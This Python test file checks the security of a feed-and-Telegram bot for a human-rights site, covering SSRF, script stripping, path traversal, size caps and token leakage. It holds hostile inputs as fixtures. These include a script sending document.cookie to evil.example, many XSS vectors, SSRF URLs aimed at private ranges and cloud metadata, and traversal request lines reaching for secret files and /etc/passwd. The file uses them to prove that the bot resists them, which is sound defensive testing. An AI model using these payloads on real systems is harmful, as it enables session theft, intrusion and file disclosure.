"""Security, end to end over real HTTP: what a hostile site, a hostile page or a hostile
request can make the bot do. Each test is the proof of one claim in docs/security.md.

- SSRF: a listing or a redirect never makes the bot fetch another host, another port of
  the source's host, a private range or the cloud metadata address;
- feed content holds no script, event handler or javascript:/vbscript:/data: URL, and a
  page cannot name a feed directory outside the output directory;
- Telegram gets site text as text: markup in a title arrives literally;
- the feed server serves nothing outside its directory;
- a gzip bomb and a 50 MB page stop at the size cap;
- the bot token appears in no log line, no output, no database and no feed file.
"""

from __future__ import annotations

import asyncio
import dataclasses
import logging
import os
import socket
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import feedparser
import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.app import build_parts, check_sources, make_delivery, make_sender, publish
from bot.config import Config, parse_config
from bot.demo import demo_config
from bot.sender import TelegramSender, Unauthorized
from feeds.check import LanguageReport, SourceChecker
from feeds.extract import extract_articles
from feeds.fetcher import Fetcher, FetchError
from feeds.replica import ReplicaSite
from feeds.serve import FeedServer
from feeds.sources import FetchSettings, Listing, SourceSettings
from feeds.store import ArticleStore, open_engine
from tests.conftest import TEST_TOKEN
from tests.fakes.hostile_site import HostileSite
from tests.fakes.telegram import FakeTelegram
from tests.feed_content import assert_inert, assert_safe_url, entry_urls, feed_contents

EN, AR, OPS = "@alqst_en", "@alqst_ar", "@alqst_ops"
START = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
ARABIC = "توثّق القسط قضية مدافع عن حقوق الإنسان محتجز دون تهمة منذ العام الماضي."
PARAGRAPH = ("ALQST documents the case of a human rights defender held without charge "
             "since last year, in violation of international standards.")


class Clock:
    def __init__(self) -> None:
        self.t = START

    def __call__(self) -> datetime:
        return self.t

    def advance(self, **delta: float) -> None:
        self.t += timedelta(**delta)


def article_page(title: str, body: str, head: str = "", html_attrs: str = 'lang="en"',
                 lead: str = f"<p>{PARAGRAPH}</p>") -> str:
    return (f"<!DOCTYPE html><html {html_attrs}><head><meta charset='utf-8'>{head}"
            f"<title>{title}</title></head><body><h1>{title}</h1><article>"
            f'<div class="post-body">{lead}{body}</div></article></body></html>')


def listing_page(links: list[str]) -> str:
    anchors = "".join(f'<li><a href="{href}">post</a></li>' for href in links)
    return f"<html><body><ul>{anchors}</ul></body></html>"


def hostile_config(site: HostileSite, workdir: Path) -> Config:
    """A configuration with one source on the hostile site, as an operator would write it."""
    data: dict[str, Any] = {
        "timezone": "UTC",
        "database": "db.sqlite",
        "fetch": {"per_host_delay_seconds": 0, "per_host_concurrency": 4, "retries": 0,
                  "backoff_seconds": 0.01, "timeout_seconds": 3, "max_bytes": 2_000_000},
        "sources": [{"name": "hostile", "title": "Hostile", "url": site.url("/"),
                     "listings": {"en": site.url("/en/posts")}, "schedule": "every 30m"}],
        "feeds": {"output_dir": "public", "base_url": "http://127.0.0.1:8080/",
                  "listen": "127.0.0.1:0"},
        "telegram": {"channels": {"en": EN}},
    }
    return parse_config(data, workdir)


class RecordingTransport(httpx.AsyncBaseTransport):
    """The real transport, noting every request that actually leaves."""

    def __init__(self) -> None:
        self.urls: list[httpx.URL] = []
        self._inner = httpx.AsyncHTTPTransport()

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        self.urls.append(request.url)
        return await self._inner.handle_async_request(request)

    async def aclose(self) -> None:
        await self._inner.aclose()


def run_checker(config: Config, store: ArticleStore,
                transport: RecordingTransport) -> LanguageReport:
    async def go() -> list[LanguageReport]:
        async with Fetcher(config.fetch, transport=transport) as fetcher:
            checker = SourceChecker(store, fetcher, now=lambda: START)
            return await checker.check(config.sources[0])

    [report] = asyncio.run(go())
    return report


@pytest.fixture
def hostile() -> Iterator[HostileSite]:
    with HostileSite() as site:
        yield site


@pytest.fixture
def bystander() -> Iterator[HostileSite]:
    """Another service on this machine (a port of 127.0.0.1 the source was not given)."""
    with HostileSite() as site:
        site.fallback = dataclasses.replace(site.fallback, status=200, body=b"internal secret")
        yield site


# ---- server-side request forgery -----------------------------------------------------------


def test_a_hostile_listing_sends_no_request_to_other_ports_private_ranges_or_other_hosts(
        hostile: HostileSite, bystander: HostileSite, tmp_path: Path) -> None:
    other = bystander.port
    hostile.serve("/en/post/fine", article_page("A fine article", ""))
    forged = [
        f"http://127.0.0.1:{other}/en/post/other-port",  # same host name, another service
        f"http://localhost:{other}/en/post/loopback-name",
        f"http://[::1]:{other}/en/post/loopback-v6",
        f"http://2130706433:{other}/en/post/loopback-decimal",
        f"http://0x7f.1:{other}/en/post/loopback-hex",
        f"http://127.1:{other}/en/post/loopback-short",
        "http://10.0.0.1/en/post/private",
        "http://192.168.1.1/en/post/router",
        "http://169.254.169.254/en/post/meta-data",  # cloud metadata
        f"http://127.0.0.1:{hostile.port}@10.0.0.1/en/post/userinfo",
    ]
    hostile.serve("/en/posts", listing_page(["/en/post/fine", *forged]))
    config = hostile_config(hostile, tmp_path)
    store = ArticleStore(open_engine(config.database))
    transport = RecordingTransport()

    report = run_checker(config, store, transport)

    assert report.new == 1
    assert {(u.host, u.port) for u in transport.urls} == {("127.0.0.1", hostile.port)}
    assert bystander.hits == []
    # The one forged link on the source's own host name is refused with its reason.
    [failure] = report.failures
    assert failure.url == forged[0]
    assert failure.reason == f"port not allowed for this source: 127.0.0.1:{other}"


def test_a_source_is_fetched_only_on_the_ports_it_is_served_on() -> None:
    site = SourceSettings(name="alqst", title="ALQST", url="https://alqst.org/",
                          listings=(Listing("en", "http://www.alqst.org/en/posts"),),
                          extra_hosts=("cdn.alqst.org:8443",))
    assert site.hosts == {
        "alqst.org", "www.alqst.org", "cdn.alqst.org", "www.cdn.alqst.org",
        "alqst.org:80", "alqst.org:443", "www.alqst.org:80", "www.alqst.org:443",
        "cdn.alqst.org:8443", "www.cdn.alqst.org:8443"}
    local = SourceSettings(name="mirror", title="Mirror",
                           listings=(Listing("en", "http://[::1]:8000/en/posts"),))
    assert local.hosts == {"::1", "[::1]:8000"}


REDIRECTS = {
    "private": ("http://10.0.0.1/admin", "redirect to another host refused: 10.0.0.1"),
    "metadata": ("http://169.254.169.254/latest/meta-data",
                 "redirect to another host refused: 169.254.169.254"),
    "other-port": ("http://127.0.0.1:{other}/internal",
                   "redirect to another port refused: 127.0.0.1:{other}"),
    "loopback-name": ("http://localhost:{other}/", "redirect to another host refused: localhost"),
    "loopback-v6": ("http://[::1]:{other}/", "redirect to another host refused: ::1"),
    "userinfo": ("http://127.0.0.1:{port}@10.0.0.1/",
                 "redirect to another host refused: 10.0.0.1"),
    "scheme-relative": ("//192.168.0.1/x", "redirect to another host refused: 192.168.0.1"),
    "file": ("file:///etc/passwd", "redirect to a non-web URL refused: file:///etc/passwd"),
    "gopher": ("gopher://127.0.0.1:{other}/_x", "redirect to a non-web URL refused"),
    "bad-port": ("http://127.0.0.1:99999/", "not a valid port: 99999"),
    "bad-url": ("http://[::1/", "redirect to an invalid URL refused"),
}


def test_an_article_redirecting_off_the_source_is_refused_with_a_one_line_reason(
        hostile: HostileSite, bystander: HostileSite, tmp_path: Path) -> None:
    fill = {"other": bystander.port, "port": hostile.port}
    for name, (target, _) in REDIRECTS.items():
        hostile.redirect(f"/en/post/{name}", target.format(**fill))
    hostile.serve("/en/posts", listing_page([f"/en/post/{name}" for name in REDIRECTS]))
    config = hostile_config(hostile, tmp_path)
    transport = RecordingTransport()

    report = run_checker(config, ArticleStore(open_engine(config.database)), transport)

    reasons = {f.url.rsplit("/", 1)[1]: f.reason for f in report.failures}
    assert set(reasons) == set(REDIRECTS)
    for name, (_, reason) in REDIRECTS.items():
        assert reasons[name].startswith(reason.format(**fill)), (name, reasons[name])
        assert "\n" not in reasons[name]
    assert {(u.host, u.port) for u in transport.urls} == {("127.0.0.1", hostile.port)}
    assert bystander.hits == []


def test_a_malformed_link_on_a_listing_does_not_stop_the_pass(
        hostile: HostileSite, tmp_path: Path) -> None:
    hostile.serve("/en/post/fine", article_page("A fine article", ""))
    hostile.serve("/en/posts", listing_page(
        ["http://[::1/en/post/x", "http://127.0.0.1:99999/en/post/y", "/en/post/fine"]))
    config = hostile_config(hostile, tmp_path)
    report = run_checker(config, ArticleStore(open_engine(config.database)),
                         RecordingTransport())
    assert report.new == 1


def test_a_hostile_entry_in_a_source_feed_does_not_stop_the_pass(
        hostile: HostileSite, tmp_path: Path) -> None:
    item = "<item><title>{}</title><link>{}</link><description>{}</description></item>"
    hostile.serve("/feed", (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>'
        + item.format("Broken &#xD800; pair", hostile.url("/en/post/a"), PARAGRAPH)
        + item.format("Fine", hostile.url("/en/post/b"), PARAGRAPH)
        + "</channel></rss>"), content_type="application/rss+xml")
    config = hostile_config(hostile, tmp_path)
    source = dataclasses.replace(config.sources[0], listings=(),
                                 feed_urls={"en": hostile.url("/feed")})
    config = dataclasses.replace(config, sources=(source,))
    report = run_checker(config, ArticleStore(open_engine(config.database)),
                         RecordingTransport())
    assert report.new >= 1


async def test_the_first_url_is_checked_as_httpx_will_connect_not_as_urllib_reads_it() -> None:
    # Python's urlsplit and httpx disagree on some URLs; the check uses the parser that
    # connects, and a URL only one of them accepts is refused before any request.
    transport = RecordingTransport()
    async with Fetcher(FetchSettings(retries=0, per_host_delay_seconds=0),
                       transport=transport) as fetcher:
        for url in ("http://127.0.0.1\t/x", "http://127.0.0.1:65536/", "http://127.0.0.1\n/",
                    "http://127.0.0.1:0/", "http://[::1/"):
            with pytest.raises(FetchError) as caught:
                await fetcher.fetch(url, allowed_hosts=frozenset({"127.0.0.1"}))
            assert caught.value.kind == "bad-url" and "\n" not in caught.value.reason
    assert transport.urls == []


# ---- feed content ---------------------------------------------------------------------------

# Every way a page has been seen (or imagined) to smuggle code into a reader.
HOSTILE_BODY = """
<p onclick="steal()" onmouseover=steal() style="background:url(javascript:steal())">Read
<a href="javascript:alert(1)">one</a> <a href="JaVaScRiPt:alert(2)">two</a>
<a href="java&#x09;script:alert(3)">three</a> <a href="&#106;avascript:alert(4)">four</a>
<a href=" javascript:alert(5)">five</a> <a href="javascript&colon;alert(6)">six</a>
<a href="vbscript:msgbox(7)">seven</a> <a href="data:text/html;base64,PHNjcmlwdD4=">eight</a>
<a href="/en/post/context" target="_blank" rel="opener">the context</a>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<script src="https://evil.example/x.js"></script><style>p{display:none}</style>
<img src="/media/photo.jpg" alt="photo" onerror="alert(8)" onload=alert(9)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">
<img src="javascript:alert(10)"><img srcset="javascript:alert(11) 1x">
<svg onload="alert(12)"><a xlink:href="javascript:alert(13)"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(14)></style></mglyph></table>
</mtext></math>
<iframe src="https://evil.example/" srcdoc="<script>alert(15)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="javascript:alert(16)"><input value="x"><button formaction="javascript:alert(17)">
go</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(18)">
<link rel="stylesheet" href="https://evil.example/x.css">
<noscript><p title="</noscript><img src=x onerror=alert(19)>">ns</p></noscript>
<video poster="javascript:alert(20)" src="https://evil.example/v.mp4"></video>
<details open ontoggle="alert(21)"><summary>more</summary>text</details>
<!-- <script>alert(22)</script> --><![CDATA[<script>alert(23)</script>]]>
<template><script>alert(24)</script></template>
<textarea></textarea><script>alert(25)</script>
<h3>Take action</h3><ul><li><a href="javascript:alert(26)">Sign the petition</a></li>
<li><a href="https://act.example/petition">Sign the real petition</a></li></ul>
"""


def feed_files(output_dir: Path) -> dict[str, bytes]:
    return {str(p.relative_to(output_dir)): p.read_bytes()
            for p in sorted(output_dir.rglob("*")) if p.is_file()}


def test_feeds_from_a_hostile_page_hold_no_script_handler_or_dangerous_url(
        hostile: HostileSite, tmp_path: Path) -> None:
    title = '<script>alert("t")</script>Hostile <img src=x onerror=alert(1)> title'
    hostile.serve("/en/post/hostile", article_page(
        title, HOSTILE_BODY,
        head='<meta property="og:image" content="javascript:alert(27)">'
             '<link rel="alternate" hreflang="ar" href="javascript:alert(28)">'))
    hostile.serve("/en/posts", listing_page(["/en/post/hostile"]))
    config = hostile_config(hostile, tmp_path)
    store = ArticleStore(open_engine(config.database))

    [report] = asyncio.run(check_sources(config, store, now=lambda: START))
    assert report.new == 1, report.failures
    publish(config, store)

    files = feed_files(config.feeds.output_dir)
    feeds = {name: data for name, data in files.items()
             if name.endswith(("rss.xml", "atom.xml", "feed.json"))}
    assert feeds and all("/campaigns/" in n or feed_contents(d) for n, d in feeds.items())
    contents = [c for data in feeds.values() for c in feed_contents(data)]
    assert any("the context" in c for c in contents)  # the text survives, the code does not
    for content in contents:
        assert_inert(content)
    for data in feeds.values():
        for url in entry_urls(data):
            assert_safe_url(url, schemes=("http", "https"))
        if not data.startswith(b"{"):
            parsed = feedparser.parse(data)
            assert parsed.bozo == 0
            assert all("<" not in e.title for e in parsed.entries)
    for name, data in files.items():
        lowered = data.lower()
        assert b"<script" not in lowered or name == "index.html", name
        assert b"javascript:" not in lowered and b"vbscript:" not in lowered, name


def test_the_inert_check_is_not_vacuous() -> None:
    for bad in ('<a href="javascript:x">a</a>', '<p onclick="x">a</p>', "<script>x</script>",
                '<img src="data:image/png;base64,AAAA">', '<p style="x:y">a</p>',
                "<iframe></iframe>", "<!-- c -->"):
        with pytest.raises(AssertionError):
            assert_inert(bad)


def test_a_page_cannot_name_a_feed_directory_outside_the_output(
        hostile: HostileSite, tmp_path: Path) -> None:
    # Chinese text has no language the bot detects, so the page's own <html lang> is used.
    body = "<p>" + "这是一个很长的中文段落，讲述人权捍卫者的案件。" * 8 + "</p>"
    hostile.serve("/en/post/escape", article_page(
        "标题", body, html_attrs='lang="../../../escaped"', lead=""))
    hostile.serve("/en/posts", listing_page(["/en/post/escape"]))
    workdir = tmp_path / "work"
    config = hostile_config(hostile, workdir)
    store = ArticleStore(open_engine(config.database))
    before = {p for p in tmp_path.rglob("*")}

    [report] = asyncio.run(check_sources(config, store, now=lambda: START))
    # The validity gate refuses a page whose language is undetermined (feeds/validity.py)...
    assert "language cannot be determined" in report.failures[0].reason
    assert store.count() == 0
    # ...so the path is tried on what an older version, without the gate, stored.
    url = hostile.url("/en/post/escape")
    [article] = extract_articles(httpx.get(url).text, url, config.sources[0], now=START)
    store.upsert(article, START)
    publish(config, store)

    [article] = store.latest()
    assert article.lang == "und"
    output = config.feeds.output_dir.resolve()
    created = {p for p in tmp_path.rglob("*")} - before
    outside = [p for p in created if p.is_file() and not p.resolve().is_relative_to(output)
               and p.resolve() != config.database_file.resolve()
               and not p.name.startswith(config.database_file.name)]
    assert outside == []
    # Stored, but no source lists "und": it gets no feed directory at all (issue 13).
    assert not (output / "und").exists() and not (output / "escaped").exists()


# ---- Telegram ---------------------------------------------------------------------------------


def test_markup_in_a_title_reaches_telegram_as_literal_text(
        site: ReplicaSite, tmp_path: Path) -> None:
    clock = Clock()
    with FakeTelegram(TEST_TOKEN, chats=[EN, AR]) as fake:
        config = demo_config(site.base_url, tmp_path, api_base_url=fake.url)
        parts = build_parts(config, now=clock)
        environ = {config.telegram.token_env: TEST_TOKEN}
        asyncio.run(check_sources(config, parts.store, observer=parts.intake, now=clock))
        title = "<b>Bold</b> & </a> <i>x &amp; y <script>alert(1)</script>"
        site.publish(lang="en", title=title,
                     paragraphs=["A paragraph with <a href='javascript:x'>markup</a> & more, "
                                 "which ALQST reports on in detail for its readers today."])
        clock.advance(minutes=30)
        asyncio.run(check_sources(config, parts.store, observer=parts.intake, now=clock))

        async def drain() -> None:
            async with make_sender(config, environ) as sender:
                assert isinstance(sender, TelegramSender)
                await make_delivery(parts, sender, now=clock).drain()

        asyncio.run(drain())

        [message] = fake.sent(EN)
        assert message.text.split("\n")[0] == title  # shown literally, not as markup
        assert "<a href='javascript:x'>markup</a> & more" in message.text
        assert message.html.startswith("<b>&lt;b&gt;Bold&lt;/b&gt; &amp; &lt;/a&gt;")
        assert not fake.calls_to("sendMessage", ok=False)  # no "can't parse entities"


# ---- the feed server -------------------------------------------------------------------------

SECRET = b"outside the output directory: do not serve"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FeedServer, Path]]:
    root = tmp_path_factory.mktemp("traversal")
    out = root / "public"
    (out / "en").mkdir(parents=True)
    (out / "en" / "rss.xml").write_bytes(b"<rss/>")
    (out / "index.html").write_bytes(b"<html></html>")
    (root / "secret.txt").write_bytes(SECRET)
    (root / "outside").mkdir()
    (root / "outside" / "secret.txt").write_bytes(SECRET)
    os.symlink(root / "secret.txt", out / "escape.xml")
    os.symlink(root / "outside", out / "linkdir")
    with FeedServer(out, port=0) as server:
        yield server, root


def raw_get(server: FeedServer, target: bytes) -> bytes:
    """Send a request line exactly as written: clients normalise '..' and '%2e' away."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
        sock.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
    return reply


TRAVERSALS = [
    b"/../secret.txt", b"/en/../../secret.txt", b"/%2e%2e/secret.txt", b"/%2E%2E%2Fsecret.txt",
    b"/.%2e/secret.txt", b"/%2e./secret.txt", b"/en/%2e%2e/%2e%2e/secret.txt",
    b"/..%2fsecret.txt", b"/..%5csecret.txt", b"/..\\secret.txt", b"/en\\..\\..\\secret.txt",
    b"/%252e%252e/secret.txt", b"/%c0%ae%c0%ae/secret.txt", b"/%ef%bc%8e%ef%bc%8e/secret.txt",
    b"/..%00/secret.txt", b"/en/rss.xml%00/../../secret.txt", b"/en/rss.xml\x00",
    b"//secret.txt", b"/escape.xml", b"/linkdir/secret.txt", b"/linkdir/",
    b"/./../secret.txt", b"/en/./../../secret.txt", b"/~/secret.txt", b"/%2fetc%2fpasswd",
    b"http://x/../secret.txt", b"http://x/%2e%2e/secret.txt",
    b"http://[::1/../secret.txt",
]


@pytest.mark.parametrize("target", TRAVERSALS)
def test_no_request_path_serves_a_file_outside_the_output_directory(
        served: tuple[FeedServer, Path], target: bytes) -> None:
    server, _ = served
    reply = raw_get(server, target)
    assert SECRET not in reply
    assert reply.split(b" ", 2)[1] in (b"400", b"404"), reply[:80]


def test_absolute_paths_to_the_secret_are_not_served(served: tuple[FeedServer, Path]) -> None:
    server, root = served
    absolute = str(root / "secret.txt").encode()
    for target in (absolute, b"/" + absolute, b"/.." + absolute, b"file://" + absolute):
        reply = raw_get(server, target)
        assert SECRET not in reply
        assert reply.split(b" ", 2)[1] in (b"400", b"404"), (target, reply[:80])


def test_the_server_still_serves_what_is_inside(served: tuple[FeedServer, Path]) -> None:
    server, _ = served
    assert raw_get(server, b"/en/rss.xml").split(b" ", 2)[1] == b"200"


@settings(max_examples=300, deadline=None)
@given(path=st.lists(st.sampled_from(
    ["..", ".", "%2e", "%2E%2e", "%2f", "%5c", "\\", "%00", "en", "rss.xml", "escape.xml",
     "linkdir", "secret.txt", "~", "", "%c0%ae", "outside", "public"]), max_size=8))
def test_resolve_never_names_a_file_outside_the_output_directory(
        served: tuple[FeedServer, Path], path: list[str]) -> None:
    server, _ = served
    try:
        found = server.resolve("/" + "/".join(path))
    except UnicodeDecodeError:  # the handler answers 404
        return
    root = server.output_dir.resolve()
    assert found is None or found.resolve().is_relative_to(root)


# ---- size caps ----------------------------------------------------------------------------------


def test_a_gzip_bomb_and_a_fifty_megabyte_page_on_the_replica_stop_at_the_cap(
        site: ReplicaSite, tmp_path: Path) -> None:
    config = demo_config(site.base_url, tmp_path)
    config = dataclasses.replace(config, fetch=dataclasses.replace(
        config.fetch, retries=0, max_bytes=2_000_000, timeout_seconds=10))
    store = ArticleStore(open_engine(config.database))
    asyncio.run(check_sources(config, store))
    bomb = site.publish(lang="en", title="Bomb", paragraphs=["x"])
    huge = site.publish(lang="en", title="Huge", paragraphs=["y"])
    for post in (bomb, huge):
        site.set_fault(post.url, "gzip-bomb" if post is bomb else "huge")
        site.set_fault(post.numeric_url, "gzip-bomb" if post is bomb else "huge")

    reports = {r.lang: r for r in asyncio.run(check_sources(config, store))}

    reasons = {f.url: f.reason for f in reports["en"].failures}
    assert reasons == {bomb.url: "page larger than 2 MB", huge.url: "page larger than 2 MB"}
    assert store.get(bomb.url) is None and store.get(huge.url) is None


async def test_inflating_a_bomb_never_holds_much_more_than_the_cap(site: ReplicaSite) -> None:
    post = site.publish(lang="en", title="Bomb", paragraphs=["x"])
    site.set_fault(post.url, "gzip-bomb")  # 256 MB once inflated
    settings_ = FetchSettings(retries=0, per_host_delay_seconds=0, max_bytes=2_000_000)
    async with Fetcher(settings_) as fetcher:
        tracemalloc.start()
        try:
            with pytest.raises(FetchError, match="larger than 2 MB"):
                await fetcher.fetch(post.url, allowed_hosts=frozenset({"127.0.0.1"}))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert peak < 12_000_000, f"peak {peak / 1e6:.1f} MB for a 2 MB cap"


# ---- the token ----------------------------------------------------------------------------------


def test_the_token_appears_in_no_log_line_output_database_or_feed_file(
        site: ReplicaSite, tmp_path: Path, caplog: pytest.LogCaptureFixture,
        capfd: pytest.CaptureFixture[str]) -> None:
    """A whole pass and delivery through the app's own wiring, everything going wrong,
    the root logger at DEBUG."""
    caplog.set_level(logging.DEBUG)
    clock = Clock()
    secret = TEST_TOKEN.split(":", 1)[1]
    with FakeTelegram(TEST_TOKEN, chats=[EN, AR, OPS]) as fake:
        config = demo_config(site.base_url, tmp_path, api_base_url=fake.url)
        config = dataclasses.replace(
            config, fetch=dataclasses.replace(config.fetch, retries=1, backoff_seconds=0.01),
            telegram=dataclasses.replace(config.telegram, operator_chat=OPS))
        environ = {config.telegram.token_env: TEST_TOKEN}
        parts = build_parts(config, now=clock)
        asyncio.run(check_sources(config, parts.store, observer=parts.intake, now=clock))
        posts = [site.publish(lang=lang, title=f"Post {i} {lang}",
                              paragraphs=[PARAGRAPH if lang == "en" else ARABIC])
                 for i in range(4) for lang in ("en", "ar")]
        for post, fault in zip(posts, ("500", "redirect-offsite", "garbage", "404"), strict=False):
            site.set_fault(post.url, fault)
            site.set_fault(post.numeric_url, fault)
        site.set_fault("/ar/posts", "503-retry-after")
        clock.advance(minutes=30)
        reports = asyncio.run(check_sources(config, parts.store, observer=parts.intake,
                                            now=clock))
        assert any(r.failures for r in reports)
        site.set_fault("/ar/posts", None)
        asyncio.run(check_sources(config, parts.store, observer=parts.intake, now=clock))
        publish(config, parts.store)

        fake.fail_next("sendMessage", status=500)
        fake.fail_next("sendMessage", status=429, retry_after=1)
        fake.fail_next("sendMessage", status=403,
                       description="Forbidden: bot is not a member of the channel chat")
        fake.fail_next("sendMessage", status=400,
                       description="Bad Request: can't parse entities: unsupported start tag")
        fake.fail_next("sendMessage", status=400, description="Bad Request: wrong something")

        async def drain_until_done() -> None:
            async with make_sender(config, environ) as sender:
                delivery = make_delivery(parts, sender, now=clock)
                for _ in range(8):
                    await delivery.drain()
                    clock.advance(hours=2)
            with pytest.raises(Unauthorized):  # a refused token is reported, never echoed
                async with make_sender(config, {config.telegram.token_env: TEST_TOKEN + "x"}):
                    pass

        asyncio.run(drain_until_done())
        assert fake.sent(EN) and fake.sent(AR)  # delivery got through in the end
        assert any(c.status in (403, 429, 500) for c in fake.calls)

    out, err = capfd.readouterr()
    assert caplog.records and any(r.levelno == logging.DEBUG for r in caplog.records)
    for record in caplog.records:
        line = caplog.handler.format(record)
        assert secret not in line, f"token in a log line from {record.name}: {line}"
        assert secret not in repr(record.args)
    assert secret not in out and secret not in err
    database = [p for p in tmp_path.rglob("*.sqlite*") if p.is_file()]
    assert database and all(secret.encode() not in p.read_bytes() for p in database)
    files = feed_files(config.feeds.output_dir)
    assert files and all(secret.encode() not in data for data in files.values())
